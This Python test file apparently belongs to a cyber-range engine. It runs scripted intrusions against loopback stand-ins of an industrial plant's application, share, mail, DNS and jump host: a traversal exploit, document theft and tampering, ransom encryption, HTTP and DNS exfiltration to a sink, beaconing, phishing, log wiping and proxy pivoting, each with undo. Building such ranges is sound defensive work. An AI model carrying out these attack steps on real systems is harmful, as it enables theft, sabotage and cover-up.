"""Steps on data, accounts and logs, against the plant's business application, share, mail, name server and jump host."""

from __future__ import annotations

import hashlib
import io
import json
from typing import Any

from cyber_range.engine.agents.tools import web
from tests.cyber_range.engine.agents.loopback import Running, programs
from tests.cyber_range.engine.attack.playing import did, inside, intruder

RECIPE = "product,volume\nwater,500\n"
OPS = {"user": "ops", "password": "Fluss-Ufer-42"}


def application(net: int, **more: Any) -> Running:
    spec = {
        "accounts": [
            {"user": "boss", "password": "geheim 1", "role": "admin"}, {"user": "reader", "password": "lesen 1"},
        ],
        "documents": {"/recipes/water.csv": RECIPE, "/recipes/juice.csv": "product,volume\njuice,330\n"},
        "canaries": ["/recipes/juice.csv"], "traversal": True, "secret": "user=boss\npassword=geheim 1\n",
        "jobs": {"m1": "/recipes/water.csv"}, "restart_seconds": 0.2, **more,
    }  # fmt: skip
    return Running("mes", "business_app", f"127.{net}.0.4", spec)


def share(net: int) -> Running:
    files = {f"/plans/{name}.txt": f"plan {name}" for name in "abc"} | {"/other/x.txt": "untouched"}
    return Running(
        "share", "file_share", f"127.{net}.0.5", {"port": 8080, "users": {"office": "papier 1"}, "files": files}
    )


def sha(text: str | bytes) -> str:
    return hashlib.sha256(text if isinstance(text, bytes) else text.encode()).hexdigest()


async def test_a_hole_gives_a_login_and_the_login_gives_everything() -> None:
    mes, attacker = application(131), intruder(131)
    where = {"host": "127.131.0.4"}
    async with programs(mes, attacker):
        await inside(attacker)
        hole = await did(attacker, "exploit_download", **where)
        taken = await did(
            attacker, "collect", **where, port=8081, paths=["/docs/recipes/water.csv", "/docs/recipes/juice.csv"]
        )
        canary = await mes.until("canary")
        tampered = await did(attacker, "tamper_document", **where, path="/docs/recipes/water.csv", text="water,640")
        changed = (await mes.ask("hash", path="/recipes/water.csv"))["sha256"]
        job = await did(attacker, "set_job", **where, machine="m1", document="/recipes/juice.csv")
        locked = await did(attacker, "change_password", **where, account="reader", new="meins jetzt", old="lesen 1")
        theirs = (await mes.ask("account", user="reader", password="lesen 1"))["password_is"]
        stopped = await did(attacker, "stop_service", **where)
        await did(attacker, "undo")
        await mes.until("app_up")
        restored = (await mes.ask("hash", path="/recipes/water.csv"))["sha256"]
        again = (await mes.ask("account", user="reader", password="lesen 1"))["password_is"]

    assert (hole["user"], sorted(taken["taken"])) == ("boss", ["/docs/recipes/juice.csv", "/docs/recipes/water.csv"])
    assert (canary["path"], canary["user"]) == ("/recipes/juice.csv", "boss")
    assert (tampered["result"], changed, restored) == ("done", sha("water,640"), sha(RECIPE))
    assert [one["result"] for one in (job, locked, stopped)] == ["done"] * 3
    assert (theirs, again) == (False, True)


async def test_a_closed_hole_and_a_changed_password_stop_it() -> None:
    mes, attacker = application(132, traversal=False), intruder(132)
    async with programs(mes, attacker):
        await inside(attacker)
        hole = await did(attacker, "exploit_download", host="127.132.0.4")
        guess = await did(attacker, "collect", host="127.132.0.4", port=8081, paths=["/docs/recipes/water.csv"], user="boss", password="wrong")  # fmt: skip
        reader = await did(attacker, "tamper_document", host="127.132.0.4", path="/docs/recipes/water.csv", text="x", user="reader", password="lesen 1")  # fmt: skip

    assert [one["result"] for one in (hole, guess, reader)] == ["blocked"] * 3


async def test_ransom_touches_named_files_only_and_undo_brings_them_back() -> None:
    files, attacker = share(133), intruder(133)
    login = {"host": "127.133.0.5", "user": "office", "password": "papier 1"}
    async with programs(files, attacker):
        await inside(attacker)
        dropped = await did(attacker, "drop", **login, path="/plans/tool.txt")
        outcome = await did(
            attacker, "encrypt", **login, folder="/plans", files=["/plans/a.txt", "/plans/b.txt"], note="pay"
        )
        gone = (await files.ask("hash", path="/plans/a.txt"))["sha256"]
        other = (await files.ask("hash", path="/other/x.txt"))["sha256"]
        stray = await attacker.ask(
            "step", step="encrypt", args={**login, "folder": "/plans", "files": ["/other/x.txt"]}
        )
        await did(attacker, "undo")
        back = [(await files.ask("hash", path=f"/plans/{name}.txt"))["sha256"] for name in "abc"]

    assert (dropped["result"], outcome["files"]) == ("done", ["/plans/a.txt", "/plans/b.txt"])
    assert gone != sha("plan a")
    assert other == sha("untouched")
    assert "only files of that folder" in stray["error"]
    assert back == [sha(f"plan {name}") for name in "abc"]


async def test_loot_leaves_by_http_and_a_beacon_calls_home() -> None:
    mes, attacker = application(134), intruder(134)
    sink = Running("sink", "internet_sink", "127.134.0.9", {})
    async with programs(mes, sink, attacker):
        await inside(attacker)
        await did(attacker, "exploit_download", host="127.134.0.4")
        await did(attacker, "collect", host="127.134.0.4", port=8081, paths=["/docs/recipes/water.csv"])
        away = await did(attacker, "exfil_http", host="127.134.0.9")
        beacon = await did(attacker, "beacon", host="127.134.0.9", every=0.05, times=3)
        ended = await attacker.until("beacon_ended", 20)
        counted = await sink.until(lambda m: m["kind"] == "counters" and any(m["values"].values()), 20)

    assert (away["result"], away["bytes"]) == ("done", len(RECIPE))
    assert (beacon["result"], ended["heard"]) == ("done", 3)
    assert counted["values"]


async def test_what_is_uploaded_arrives_outside_byte_for_byte() -> None:
    mes, attacker = application(139), intruder(139)
    sink = Running("sink", "internet_sink", "127.139.0.9", {"canaries": ["water,500", "never sent"]})
    async with programs(mes, sink, attacker):
        await inside(attacker)
        await did(attacker, "exploit_download", host="127.139.0.4")
        await did(attacker, "collect", host="127.139.0.4", port=8081, paths=["/docs/recipes/water.csv"])
        before = await sink.ask("received")
        await did(attacker, "exfil_http", host="127.139.0.9", copies=3)
        after = await sink.ask("received")

    assert (before["http"], before["canaries"]) == (0, [])
    assert (after["http"], after["dns"], after["canaries"]) == (3 * len(RECIPE), 0, ["water,500"])


async def test_loot_leaves_in_name_queries_until_the_name_server_blocks_them() -> None:
    rows = "number,name\n" + "".join(f"{n},customer {n}\n" for n in range(120))
    mes = application(140, documents={"/customers.csv": rows})
    dns = Running(
        "dns", "dns_server", "127.140.0.3",
        {"zone": "plant.example", "upstream": "127.140.0.9", "admin": {"user": "net", "password": "Namen 1"}},
    )  # fmt: skip
    sink = Running("sink", "internet_sink", "127.140.0.9", {"domain": "abc.cdn.example", "canaries": ["customer 119"]})
    attacker = intruder(140)
    tunnel = {"resolver": "127.140.0.3", "domain": "abc.cdn.example", "names": ["/docs/customers.csv"], "pause": 0}
    async with programs(mes, dns, sink, attacker):
        await inside(attacker)
        await did(
            attacker, "collect", host="127.140.0.4", port=8081, paths=["/docs/customers.csv"], user="boss",
            password="geheim 1",
        )  # fmt: skip
        away = await did(attacker, "exfil_dns", **tunnel)
        received = await sink.ask("received")
        out = io.StringIO()
        blocked = await web.main(
            ["put", "http://127.140.0.3:8053/blocked/abc.cdn.example", "--user", "net", "--password", "Namen 1"],
            attacker.net,
            out,
        )
        again = await did(attacker, "exfil_dns", **tunnel)
        later = await sink.ask("received")

    assert (away["result"], away["bytes"], away["refused"]) == ("done", len(rows), 0)
    assert (received["dns"], received["canaries"]) == (len(rows), ["customer 119"])
    assert blocked == 0
    assert (again["result"], again["reason"]) == ("blocked", "questions for abc.cdn.example are no longer answered")
    assert later["dns"] == received["dns"]


async def test_a_machine_told_to_run_another_program_gets_its_own_back() -> None:
    mes, attacker = application(141), intruder(141)

    async def planned() -> str:
        out = io.StringIO()
        await web.main(
            ["get", "http://127.141.0.4:8081/jobs", "--user", "boss", "--password", "geheim 1"], attacker.net, out
        )
        return str(json.loads(out.getvalue())["m1"])

    async with programs(mes, attacker):
        await inside(attacker)
        before = await planned()
        told = await did(
            attacker, "set_job", host="127.141.0.4", machine="m1", document="/recipes/juice.csv", user="boss",
            password="geheim 1",
        )  # fmt: skip
        changed = await planned()
        undone = await did(attacker, "undo")
        after = await planned()

    assert (told["result"], before, changed, after) == (
        "done", "/recipes/water.csv", "/recipes/juice.csv", "/recipes/water.csv",
    )  # fmt: skip
    assert undone["restored"] == [{"target": "127.141.0.4", "machine": "m1", "document": "/recipes/water.csv"}]


async def test_a_lure_reaches_the_mailboxes() -> None:
    mail, attacker = Running("mail", "mail_server", "127.135.0.6", {"domain": "plant.example"}), intruder(135)
    async with programs(mail, attacker):
        sent = await did(
            attacker, "phish", host="127.135.0.6", sender="bank@elsewhere.example", to=["cashier@plant.example"],
            subject="发票", text="请打开附件",
        )  # fmt: skip
        refused = await did(
            attacker, "phish", host="127.135.0.6", sender="bank@elsewhere.example", to=["x@strange.example"],
            subject="x", text="x",
        )  # fmt: skip
        box = (await mail.ask("mailbox"))["messages"]

    assert (sent["result"], sent["to"]) == ("done", ["cashier@plant.example"])
    assert refused["result"] in ("done", "blocked")
    assert [(one["from"], one["to"], one["subject"]) for one in box if "cashier" in str(one["to"])] == [
        ("bank@elsewhere.example", ["cashier@plant.example"], "发票")
    ]
    assert box[0]["size"] > len("请打开附件".encode())


async def test_a_wiped_trail_leaves_a_hole_that_the_collector_shows() -> None:
    collector = Running("logs", "log_collector", "127.136.0.8", {"users": {"sec": "lesen 1"}, "port": 5514})
    mes = application(136, collector={"host": "127.136.0.8", "port": 5514})
    attacker = intruder(136)
    async with programs(collector, mes, attacker):
        await inside(attacker)
        await did(attacker, "exploit_download", host="127.136.0.4")
        await did(attacker, "collect", host="127.136.0.4", port=8081, paths=["/docs/recipes/water.csv"])
        cleared = await did(attacker, "clear_log", host="127.136.0.4")
        await did(attacker, "collect", host="127.136.0.4", port=8081, paths=["/docs/recipes/water.csv"])
        out = io.StringIO()
        await web.main(
            ["get", "http://127.136.0.4:8081/audit", "--user", "boss", "--password", "geheim 1"],
            attacker.net,
            out,  # type: ignore[arg-type]
        )
        there = json.loads(out.getvalue())
        await collector.until(lambda m: m["kind"] == "counters" and m["values"]["rows"] >= 4, 20)
        kept = (await collector.ask("rows", last=50))["rows"]

    assert cleared["result"] == "done"
    assert min(row["no"] for row in there) == 3  # 1: the hole, 2: the recipe; then the trail was wiped
    assert {json.loads(row["text"])["no"] for row in kept} >= {1, 2, 3}


async def test_a_session_types_commands_wipes_its_log_and_lets_others_through() -> None:
    accounts = [{**OPS, "admin": True, "forward": ["127.137.0.0/28:28081"]}]
    jump, mes, attacker = Running("jump", "jump_host", "127.137.0.6", {"accounts": accounts}), application(137, port=28081), intruder(137)  # fmt: skip
    async with programs(jump, mes, attacker):
        await did(attacker, "login", host="127.137.0.6", credentials=[{"user": "root", "password": "root"}, OPS])
        script = await did(attacker, "console", commands=["accounts", "log"])
        wiped = await did(attacker, "clear_log", console=True)
        after = await did(attacker, "console", commands=["log"])
        door = await did(attacker, "proxy", host="127.137.0.4", port=28081, listen=29001)
        out = io.StringIO()
        code = await web.main(
            ["get", "http://127.137.0.7:29001/docs", "--user", "boss", "--password", "geheim 1"],
            attacker.net,
            out,  # type: ignore[arg-type]
        )
        nowhere = await did(attacker, "proxy", host="127.137.0.5", port=28081)
        undone = await did(attacker, "undo")

    assert [one["status"] for one in script["commands"]] == [0, 0]
    assert "失败 root" in script["commands"][1]["text"]
    assert (wiped["result"], "清空了记录" in after["commands"][0]["text"], "root" in after["commands"][0]["text"]) == ("done", True, False)  # fmt: skip
    assert (door["result"], code, "/recipes/water.csv" in out.getvalue()) == ("done", 0, True)
    assert nowhere["result"] == "blocked"
    assert {"closed": 29001} in undone["restored"]
